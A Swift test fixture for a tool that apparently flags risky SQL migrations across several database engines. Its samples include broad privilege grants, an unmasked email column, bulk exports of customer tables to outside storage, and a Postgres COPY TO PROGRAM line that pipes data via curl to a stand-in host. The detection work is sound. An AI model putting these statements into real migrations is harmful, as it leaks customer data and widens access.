import Detection

extension FreshOthers {

  static let part3: [FreshCase] = [
    .pair(
      "mysql grant",
      "sql/migrations/0042_grants.sql",
      nil,
      "GRANT ALL ON *.* TO 'root'@'%' WITH GRANT OPTION;\n",
      [.widened],
      .iam
    ),
    .pair(
      "mysql user",
      "sql/migrations/0042_grants.sql",
      nil,
      "CREATE USER 'app'@'%' IDENTIFIED BY 'x';\n",
      [.widened, .incomparable, .unknown],
      .iam
    ),
    .pair(
      "snowflake share",
      "sql/migrations/0042_grants.sql",
      nil,
      "ALTER SHARE sales ADD ACCOUNTS = partner123;\n",
      [.widened]
    ),
    .pair(
      "snowflake role",
      "sql/migrations/0042_grants.sql",
      nil,
      "GRANT ROLE ACCOUNTADMIN TO USER dave;\n",
      [.widened],
      .iam
    ),
    .pair(
      "snowflake unload",
      "sql/migrations/0042_grants.sql",
      nil,
      """
      COPY INTO 's3://partner-bucket/x/' FROM analytics.customers STORAGE_INTEGRATION = si;

      """,
      [.widened],
      .dataExport
    ),
    .pair(
      "snowflake load",
      "sql/migrations/0042_grants.sql",
      nil,
      "COPY INTO analytics.customers FROM @load_stage;\n",
      [.equal, .unknown]
    ),
    .pair(
      "snowflake unmask",
      "sql/migrations/0042_grants.sql",
      nil,
      "ALTER TABLE customers MODIFY COLUMN email UNSET MASKING POLICY;\n",
      [.widened]
    ),
    .pair(
      "redshift unload",
      "sql/migrations/0042_grants.sql",
      nil,
      """
      UNLOAD ('select * from customers') TO 's3://dump/' IAM_ROLE 'arn:aws:iam::111122223333:role/unload';

      """,
      [.widened],
      .dataExport
    ),
    .pair(
      "bigquery export",
      "sql/migrations/0042_grants.sql",
      nil,
      """
      EXPORT DATA OPTIONS(uri='gs://out/x-*.csv', format='CSV') AS SELECT * FROM shop.customers;

      """,
      [.widened],
      .dataExport
    ),
    .pair(
      "bigquery grant",
      "sql/migrations/0042_grants.sql",
      nil,
      """
      GRANT `roles/bigquery.dataViewer` ON SCHEMA shop TO "user:eve@example.com";

      """,
      [.widened],
      .iam
    ),
    .pair(
      "pg copy program",
      "sql/migrations/0042_grants.sql",
      nil,
      "COPY customers TO PROGRAM 'curl -T - https://example.net';\n",
      [.widened],
      .dataExport
    ),
    .pair(
      "pg copy stdout",
      "sql/migrations/0042_grants.sql",
      nil,
      "COPY (SELECT id FROM orders) TO STDOUT;\n",
      [.widened, .unknown, .equal],
      .dataExport
    ),
    .pair(
      "mssql server role",
      "sql/migrations/0042_grants.sql",
      nil,
      "ALTER SERVER ROLE sysadmin ADD MEMBER [CORP\\eve];\n",
      [.widened],
      .iam
    ),
    .pair(
      "mssql db role",
      "sql/migrations/0042_grants.sql",
      nil,
      """
      ALTER ROLE db_owner ADD MEMBER app;
      GO

      """,
      [.widened],
      .iam
    ),
    .pair(
      "mssql grant control",
      "sql/migrations/0042_grants.sql",
      nil,
      "GRANT CONTROL ON DATABASE::shop TO app;\n",
      [.widened],
      .iam
    ),
    .pair(
      "mssql sp",
      "sql/migrations/0042_grants.sql",
      nil,
      "EXEC sp_addrolemember 'db_owner', 'app';\n",
      [.widened, .incomparable, .unknown],
      .iam
    ),
    .pair(
      "mssql deny",
      "sql/migrations/0042_grants.sql",
      nil,
      "DENY SELECT ON dbo.salaries TO app;\n",
      [.narrowed],
      .iam
    ),
    .pair(
      "oracle dba",
      "sql/migrations/0042_grants.sql",
      nil,
      "GRANT DBA TO scott;\n",
      [.widened],
      .iam
    ),
  ]
}
